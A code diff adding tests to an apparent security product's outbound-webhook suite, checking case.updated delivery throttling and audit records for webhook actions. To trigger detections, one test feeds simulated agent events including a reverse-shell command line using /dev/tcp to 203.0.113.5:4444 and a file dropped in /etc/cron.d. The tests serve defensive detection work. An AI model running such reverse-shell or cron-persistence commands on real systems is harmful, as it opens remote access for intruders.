@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestController, type TestController } from "../support/controller";
 import { request } from "../support/http";
 import { waitFor } from "../support/wait";
+import { FileAction } from "@vigil/proto";
 import { connect, exec, send, T0 } from "../detection/support";
 import { verifySignature } from "../../src/webhooks/signature";
 import { Receiver, sample } from "./support";
@@ -97,6 +98,34 @@ describe("outbound webhooks", () => {
 
     // The rule has no attack.t1110 tag: nothing queued for that destination.
     expect((await request(ctl, "GET", `/api/v1/webhooks/${hooks.filtered}/deliveries`)).body.items.filter((d: { topic: string }) => d.topic === "alerts")).toEqual([]);
+  });
+
+  it("delivers case.updated to a destination subscribed to cases, once per case per minute", async () => {
+    const id = (await create({ name: "cases-only", url: `${rx.url}/cases`, topics: ["cases"] })).id;
+    const a = await connect(ctl, "grow-host");
+    agentSeq = await send(a, agentSeq, [exec(T0, "/tmp/grow-1")]);
+    const opened = JSON.parse((await waitFor("case.opened", () => rx.at("/cases").find((r) => JSON.parse(r.body).type === "case.opened"))).body);
+    // Another rule (reverse shell command line) on the same host joins the case.
+    agentSeq = await send(a, agentSeq, [exec(T0 + 1000, "/usr/bin/bash-/dev/tcp/203.0.113.5/4444")]);
+    const updated = JSON.parse((await waitFor("case.updated", () => rx.at("/cases").find((r) => JSON.parse(r.body).type === "case.updated"))).body);
+    expect(updated.data).toMatchObject({ id: opened.data.id });
+    expect(updated.data.alertCount).toBeGreaterThan(opened.data.alertCount);
+    // More alerts on the case within the minute: folded into one later delivery, not one each.
+    const cron = (t: number, path: string) => () => ({ eventTimeMs: t, body: { $case: "file", file: { action: FileAction.FILE_ACTION_CREATE, path } } });
+    agentSeq = await send(a, agentSeq, [cron(T0 + 2000, "/etc/cron.d/grow"), exec(T0 + 3000, "/usr/bin/bash-/dev/tcp/203.0.113.5/4444")]);
+    a.close();
+    await waitFor("the case grew", async () => (await request(ctl, "GET", `/api/v1/cases/${opened.data.id}`)).body.alertCount > updated.data.alertCount);
+    const queued = (await request(ctl, "GET", `/api/v1/webhooks/${id}/deliveries`)).body.items as Array<{ type: string }>;
+    expect(queued.filter((d) => d.type === "case.updated")).toHaveLength(1);
+  });
+
+  it("creating, testing and deleting a webhook each leave exactly one audit record", async () => {
+    const id = (await create({ name: "audited", url: `${rx.url}/audited`, enabled: false })).id;
+    await request(ctl, "POST", `/api/v1/webhooks/${id}/test`);
+    expect((await request(ctl, "DELETE", `/api/v1/webhooks/${id}`)).status).toBeLessThan(300);
+    const trail = (await request(ctl, "GET", "/api/v1/audit?limit=1000")).body.items as Array<{ action: string; target: string }>;
+    const about = trail.filter((r) => r.action.startsWith("webhook") && (r.target.includes(id) || r.target.startsWith("webhooks")));
+    expect(about.map((r) => r.action).sort()).toEqual(["webhook.created", "webhook.deleted", "webhook.test_sent"]);
   });
 
   it("retries a failing receiver with backoff until it recovers", async () => {
